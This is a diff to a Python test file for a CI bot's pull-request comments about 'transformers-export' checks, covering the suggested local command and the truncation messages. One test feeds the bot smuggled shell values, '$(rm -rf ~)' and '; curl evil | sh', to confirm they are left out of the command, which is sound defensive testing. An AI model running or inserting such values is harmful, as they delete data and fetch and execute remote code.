@@ -177,6 +177,9 @@ def test_the_local_command_takes_nothing_unread_from_the_verdict() -> None:
     assert f"transformers-export check --base {'a' * 40} --exporter both\n" in comment(
         verdict(PASSED, legacy, base="a" * 40), LINKS
     )
+    assert "transformers-export check --all --exporter" in comment(
+        verdict(PASSED, base="a" * 40, head="a" * 40), LINKS
+    ), "nothing was compared"
     hostile = verdict(replace(PASSED, exporter="$(rm -rf ~)"), base="; curl evil | sh")
     assert "\ntransformers-export check\n" in comment(hostile, LINKS)
 
@@ -225,14 +228,14 @@ def test_what_is_left_out_is_counted_and_the_summary_has_it() -> None:
 
     shown = text.count("| ❌ |")
     assert 0 < shown < 1500
-    assert f"… and {1500 - shown:,} more exports, all in the [job summary]({LINKS.run_url})." in text
+    assert f"… and {1500 - shown:,} more exports: see the [job summary]({LINKS.run_url})." in text
 
 
 def test_details_go_before_rows() -> None:
     text = comment(huge(60, "word " * 60), LINKS)
 
     assert text.count("| ❌ |") == 60
-    assert "more frames" in text or "more failures" in text
+    assert "\n60 failures: see the [job summary]" in text
 
 
 def test_a_length_is_counted_as_the_strictest_reader_would() -> None:
